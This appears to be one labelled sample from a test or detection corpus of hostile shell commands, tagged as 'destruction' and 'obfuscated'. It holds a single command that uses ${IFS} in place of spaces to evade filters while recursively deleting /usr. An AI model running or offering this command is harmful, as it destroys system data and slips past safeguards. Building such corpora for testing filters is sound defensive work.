# description: Uses ${IFS} in place of spaces to run rm -rf /usr.
# family: destruction
# obfuscated: yes
rm${IFS}-rf${IFS}/usr
